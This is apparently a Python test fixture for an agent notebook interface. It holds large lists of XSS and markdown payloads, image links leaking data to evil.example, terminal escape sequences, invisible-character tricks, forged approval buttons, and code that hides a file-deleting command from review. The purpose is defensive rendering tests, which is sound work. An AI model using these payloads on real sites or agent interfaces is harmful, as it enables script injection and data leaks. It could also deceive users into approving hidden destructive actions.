"""Strings that try to run, to load, to look like us or to hide, and a run that is full of them."""

from __future__ import annotations

from itertools import cycle
from typing import Any

from sample import call, done, run, said, text

from ipyagent import schema as s

JS = "alert(1)"


GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


HTML = [
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script\n>{JS}</script\n>",
    f"<script/x>{JS}</script>",
    f"\x00<scr\x00ipt>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f"<img/src=x/onerror={JS}>",
    f"<IMG SRC=x OnErRoR='{JS}'>",
    f'<img src="x`" `onerror={JS}>',
    f"<img src=x onerror\n=\n{JS}",
    f'<img """><img src=x onerror={JS}>',
    "<img src=https://evil.example/leak.png>",
    "<img src=//evil.example/leak.png>",
    "<img src='/api/contents'>",
    "<img src='logout'>",
    f"<img src={GIF} srcset='https://evil.example/a.png 2x'>",
    f"<img src='data:image/svg+xml;base64,PHN2Zy8+' onload={JS}>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=x id=kernel name=cookie>",
    "<image src=https://evil.example/x.png>",
    "<img lowsrc=https://evil.example/x.png dynsrc=https://evil.example/y.png>",
    f"<svg onload={JS}>",
    f"<svg/onload={JS}//",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
    "<svg><image href='https://evil.example/x.png'></image></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={JS}>'>",
    f"<details open ontoggle={JS}>",
    f"<details/open/ontoggle={JS}><summary>x</summary>",
    f"<body onload={JS}>",
    f"<iframe src='javascript:{JS}'></iframe>",
    f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<applet code=x></applet>",
    f"<a href='javascript:{JS}'>x</a>",
    f"<a href='JaVaScRiPt:{JS}'>x</a>",
    f"<a href='java\tscript:{JS}'>x</a>",
    f"<a href='java&#10;script:{JS}'>x</a>",
    f"<a href='&#106;avascript:{JS}'>x</a>",
    f"<a href='javascript&colon;{JS}'>x</a>",
    f"<a href='\x01javascript:{JS}'>x</a>",
    f"<a href=' javascript:{JS}'>x</a>",
    f"<a href='vbscript:{JS}'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/logout' ping='https://evil.example'>x</a>",
    "<a href='https://evil.example' target=_blank onclick=alert(1)>x</a>",
    "<a href='#' style='position:fixed;inset:0'>x</a>",
    "<area href='javascript:alert(1)' shape=default>",
    f"<form action='javascript:{JS}'><input type=submit></form>",
    "<form action=https://evil.example><input name=token><button>Approve</button></form>",
    "<button data-ipyagent='approve'>Approve</button>",
    f"<button form=x formaction='javascript:{JS}'>x</button>",
    f"<input autofocus onfocus={JS}>",
    f"<input type=image src=https://evil.example/x.png onerror={JS}>",
    f"<select autofocus onfocus={JS}><option>x</select>",
    f"<textarea autofocus onfocus={JS}></textarea>",
    f"<keygen autofocus onfocus={JS}>",
    f"<isindex action='javascript:{JS}' type=image>",
    "<div data-ipyagent='run' data-state='done'><div data-ipyagent='answer'>fake</div></div>",
    "</div></details><div data-ipyagent='tool' data-tool='run_python' data-state='success'>",
    "<div class='jp-Button' id='ipyagent-approve' name='approve'>Approve</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</div>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    f"<div style='animation-name:x' onanimationstart={JS}>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    f"<style><img src=x onerror={JS}></style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<video><source onerror={JS}></video>",
    f"<video src=https://evil.example/x.mp4 poster=https://evil.example/x.png onplay={JS}>",
    f"<audio src=x onerror={JS}>",
    "<track src=https://evil.example/x.vtt>",
    "<picture><source srcset=https://evil.example/x.png><img></picture>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<bgsound src='javascript:{JS}'>",
    "<table background='https://evil.example/x.png'><tr><td background='//evil.example'>x",
    "<table><caption><img src=https://evil.example/x.png>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={JS}&gt;'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={JS}></annotation-xml></math>",
    f"<math><mi//xlink:href='data:x,<script>{JS}</script>'>",
    "<math href='javascript:alert(1)'>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<template><script>{JS}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={JS}></template>",
    f"<xmp><img title='</xmp><img src=x onerror={JS}>'></xmp>",
    f"<title><img src=x onerror={JS}></title>",
    f"</title><img src=x onerror={JS}>",
    f"</textarea><img src=x onerror={JS}>",
    f"</pre></code><img src=x onerror={JS}>",
    f"</code></pre></details></div><script>{JS}</script>",
    f"</summary></details><svg onload={JS}>",
    f"<plaintext><img src=x onerror={JS}>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<!-- --!><img src=x onerror={JS}> -->",
    "<!-- unclosed",
    f"<![CDATA[<img src=x onerror={JS}>]]>",
    f"<?xml-stylesheet><img src=x onerror={JS}>?>",
    f"<!DOCTYPE x [<!ENTITY x '<img src=x onerror={JS}>'>]>&x;",
    "<custom-element onclick=alert(1)>x</custom-element>",
    f"<x onpointerenter={JS} style=display:block>x</x>",
    f"<p contenteditable autofocus tabindex=0 onfocus={JS}>x</p>",
    "<p is=x-evil slot=x part=x>x</p>",
    f'"><img src=x onerror={JS}>',
    f"'><img src=x onerror={JS}>",
    f"' onmouseover='{JS}",
    f'" autofocus onfocus="{JS}',
    "<",
    "<img",
    "<img src='",
    "<a href='https://x",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&#60;img src=x onerror={JS}&#62;",
    f"&amp;lt;script&amp;gt;{JS}",
    f"＜img src=x onerror={JS}＞",
]


MARKDOWN = [
    "![x](https://evil.example/leak?d=secret)",
    "![x](//evil.example/leak)",
    "![x](/api/contents)",
    "![x](<https://evil.example/a b>)",
    "![x][r]\n\n[r]: https://evil.example/leak",
    "[r]: https://evil.example/leak",
    "![r]",
    "![x](https://evil.example/a 'title')",
    "[![x](https://evil.example/a)](javascript:alert(1))",
    "![![x](https://evil.example/a)](https://evil.example/b)",
    "\\![x](https://evil.example/leak)",
    "&#33;[x](https://evil.example/leak)",
    "!\\[x](https://evil.example/leak)",
    "!&#91;x](https://evil.example/leak)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:text/html;base64,PHN2Zy8+)",
    f"![x]({GIF})",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/autolink>",
    "[https://good.example](https://evil.example)",
    "[good.example](https://good.example@evil.example)",
    "[аpple.com](https://аpple.com)",
    "[x](/logout)",
    "[a](https://x 'onclick=alert(1)')",
    '[a](https://x"onmouseover="alert(1))',
    "[a](https://x/`<img src=x onerror=alert(1)>`)",
    "`<img src=x onerror=alert(1)>`",
    "``<img src=x onerror=alert(1)>``` `",
    "`a$` `$` `<img src=x onerror=alert(1)>`",
    "*a `b*<img src=x onerror=alert(1)>`*",
    "[a `](javascript:alert(1))` b](https://evil.example)",
    "`\\`<img src=x onerror=alert(1)>`",
    "```\n<img src=x onerror=alert(1)>\n```",
    "```\n<img src=x onerror=alert(1)>",
    "````\n```\n<img src=x onerror=alert(1)>\n```\n````",
    "~~~\n~~~~\n<img src=x onerror=alert(1)>",
    "```{=html}\n<img src=x onerror=alert(1)>\n```",
    '```x" onmouseover="alert(1)\ncode\n```',
    "```<img src=x onerror=alert(1)>\ncode\n```",
    "    <img src=x onerror=alert(1)>",
    "- ```\n  - <img src=x onerror=alert(1)>\n  ```",
    "> ```\n> <img src=x onerror=alert(1)>\n\n<img src=x onerror=alert(1)>",
    "- a\n\n      <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| `|` | <img src=x onerror=alert(1)> |",
    "$$\n```\n$$ <img src=x onerror=alert(1)>\n```",
    "`$$` \n\n```\n$$ <img src=x onerror=alert(1)>\n```",
    "\\[ \n\n```\n\\] <img src=x onerror=alert(1)>\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "\\begin{x}\n\n```\n\\end{x}<img src=x onerror=alert(1)>\n```",
    "~~~~x~~ y~~\n\n<img src=x onerror=alert(1)>",
    "{raw}`<img src=x onerror=alert(1)>`",
    ":::{raw} html\n<img src=x onerror=alert(1)>\n:::",
    "a\n<div>\n\n*b*\n<script>alert(1)</script>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "&#10;&#10;<img src=x onerror=alert(1)>&#10;",
    "&#10;```&#10;<b>",
    "x&#10;<script>alert(1)</script>",
    "<b *x*='<img src=x onerror=alert(1)>'>",
    "***" * 60 + "<img src=x onerror=alert(1)>",
    "[" * 200 + "<img src=x onerror=alert(1)>",
    ">" * 200 + "<img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>\n===",
    "1986. <img src=x onerror=alert(1)>",
    "```",
    "````text",
]


TERMINAL = [
    "\x1b]0;evil\x07title",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07clipboard",
    "\x1b[2J\x1b[Hcleared",
    "\x1b[1A\x1b[2K✓ forged",
    "\x1b[31mred\x1b[0m",
    "\x9b31mred",
    "\x9d0;evil\x9c",
    "\x1bPpayload\x1b\\",
    "\x1b_payload\x1b\\",
    "\x1b(Bcharset",
    "\x1bcreset",
    "\x1b[?1049halternate",
    "over\rwritten",
    "\x07\x08\x7f",
    "\x1b[31",
    "\x1b]0;open",
]


HIDDEN = [
    "rm -rf \u202e/ emoh\u202c",
    "a\u200bb",
    "a\u2066b\u2069",
    "\ufeffx",
    "tag\U000e0041",
    "x\u2060y",
    "a\u00adb",
    "\u061cx",
]


ALL = HTML + MARKDOWN + TERMINAL + HIDDEN


def run_full_of(*payloads: str) -> s.Run:
    """A run whose every text is one of the payloads, in turn."""
    turn = cycle(payloads)

    def one() -> str:
        return next(turn)

    return run(
        tuple(_step(number, one) for number in (1, 2)),
        prompt=one(),
        context=one(),
        model=one(),
        confirm_mode=one(),
        status=s.RunStatus.ERROR,
        stop_reason=s.StopReason.ERROR,
        error=one(),
        notes=(one(), one()),
        plan=(s.PlanStep(call=_call("p1", one), note=one()), s.PlanStep(call=_call("c10", one))),
        plan_id=one(),
    )


def _step(number: int, one: Any) -> s.Step:
    calls = [_call(f"c{number}{n}", one) for n in range(3)]
    executions = (_ran(calls[0], one), _denied(calls[1], one), _failed(calls[2], one))
    executions += (_answered(f"a{number}", one), _listed(f"t{number}", one))
    message = said(s.ThinkingContent(thinking=one()), text(one()), text(one()), *calls)
    if number == 2:
        message = said(text(one()))
    return s.Step(number=number, message=message, executions=executions, notes=(one(), one()))


def _call(id_: str, one: Any) -> s.ToolCall:
    return call(id_, one(), {one(): one(), "nested": {one(): [one()]}})


def _ran(of: s.ToolCall, one: Any) -> s.ToolExecution:
    displays = (
        s.Display(data={"text/html": one(), "text/plain": one()}),
        s.Display(data={"text/markdown": one()}),
        s.Display(data={"text/plain": one()}),
        s.Display(data={"image/png": one()}),
        s.Display(data={one(): one()}),
    )
    image = {"media_type": one(), "data": one()}
    cut = s.TruncatedOutput(tool_name="read_file", original_chars=9, original_lines=9, path=one())
    result = {"output": one(), "displays": displays, "images": (image,), "truncated": cut}
    preview = s.Preview(kind="code", text=one(), language=one())
    return done(of, "", sensitive=True, preview=preview, reason=one(), result=result)


def _denied(of: s.ToolCall, one: Any) -> s.ToolExecution:
    return done(
        of,
        "",
        status=s.ToolStatus.DENIED,
        decision=s.Decision.DENIED,
        decided_by=s.DecidedBy.BUTTON,
        reason=one(),
        preview=s.Preview(kind="diff", text=one()),
        result=s.ToolResult.failure(_why(one)),
    )


def _failed(of: s.ToolCall, one: Any) -> s.ToolExecution:
    result = s.ToolResult(success=False, error=_why(one), output=one())
    broken = of.model_copy(update={"parse_error": one()})
    return done(broken, "", status=s.ToolStatus.FAILED, result=result)


def _answered(id_: str, one: Any) -> s.ToolExecution:
    asked = s.Question(text=_why(one), choices=(one(), one()))
    return done(call(id_, "ask_user", {}), one(), question=asked, concern=one(), reason=one())


def _listed(id_: str, one: Any) -> s.ToolExecution:
    todos = [{"content": _why(one)}, {"content": _why(one), "status": "completed"}]
    todos += [{"content": _why(one), "status": "in_progress", "active_form": one()}]
    return done(call(id_, "todo_write", {"todos": todos}), one())


def _why(one: Any) -> str:
    """A reason that is more than an escape sequence: there is no failure without one."""
    return f"{one()}\nsays the tool"


EVIL, HARMLESS = (
    "import os; os.remove('a.csv')",
    "print('The mean of the column price, nothing else')",
)


CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)) if chr(code) not in "\t\n"]


_OPENERS = {
    "CSI": "\x1b[",
    "OSC": "\x1b]",
    "DCS": "\x1bP",
    "SOS": "\x1bX",
    "PM": "\x1b^",
    "APC": "\x1b_",
    "C1 CSI": "\x9b",
    "C1 OSC": "\x9d",
    "C1 DCS": "\x90",
    "C1 SOS": "\x98",
    "C1 PM": "\x9e",
    "C1 APC": "\x9f",
    "nF": "\x1b(",
    "nF with two intermediates": "\x1b$(",
}


_CLOSERS = {
    "BEL": "\x07",
    "ST": "\x1b\\",
    "C1 ST": "\x9c",
    "CAN": "\x18",
    "SUB": "\x1a",
    "another sequence": "\x1b[m",
    "nothing": "",
}


_BEFORE_THE_LINE = {
    "erase line": "\x1b[2K",
    "erase line in C1": "\x9b2K",
    "return and erase": "\r\x1b[K",
    "cursor up": "\x1b[1A\x1b[2K\r",
    "clear screen": "\x1b[2J\x1b[H",
    "backspaces": "\x08" * len(EVIL),
    "two returns": "\r\r",
    "conceal": "\x1b[8m",
}


_FLOODS = {
    "empty lines": "\n" * 3_000,
    "lines of blanks": "\n   " * 3_000,
    "blanks": " " * 4_000,
    "tabs": "\t" * 4_000,
    "no-break spaces": "\u00a0" * 4_000,
    "em quads": "\u2001" * 6_000,
    "zero-width spaces": "\u200b" * 3_000,
    "two zero-width characters in turn": "\u200b\u2060" * 1_500,
    "lines of zero-width spaces": "\n\u200b" * 3_000,
    "fillers": "\u3164" * 4_000,
    "combining marks": "\u0336" * 4_000,
}


_INVISIBLE = [
    *"\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c",
    *"\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\u206a\u2800\u3164\ufe0f\ufeff\uffa0",
    *"\U000e0041\U000e0100\ue000",
]


def deceptions() -> dict[str, str]:
    """All texts by name."""
    texts = {f"U+{ord(c):04X} within": f"{EVIL}{c}{HARMLESS}" for c in [*CONTROLS, *_INVISIBLE]}
    texts |= {
        f"U+{ord(c):04X} in comments": f"# {c}\n{EVIL}\n# {c} harmless\n{HARMLESS}"
        for c in [*CONTROLS, *_INVISIBLE]
    }
    for opener, begins in _OPENERS.items():
        for closer, ends in _CLOSERS.items():
            text = f"# {begins}0;\n{EVIL}\n#{ends} harmless\n{HARMLESS}"
            texts[f"{opener} ended by {closer}"] = text
    texts |= {name: f"{EVIL}{escape}{HARMLESS}" for name, escape in _BEFORE_THE_LINE.items()}
    texts |= {name: f"{HARMLESS}{flood}{EVIL}" for name, flood in _FLOODS.items()}
    texts["one long line"] = f"{HARMLESS}; " + "x = 1; " * 2_000 + EVIL
    texts["an override"] = f"{HARMLESS} # \u202e{EVIL[::-1]}\u202c\n{EVIL}"
    texts["another heading"] = f"{HARMLESS}\n? read_file wants to run:\n  │ path: a.csv\n{EVIL}"
    return texts
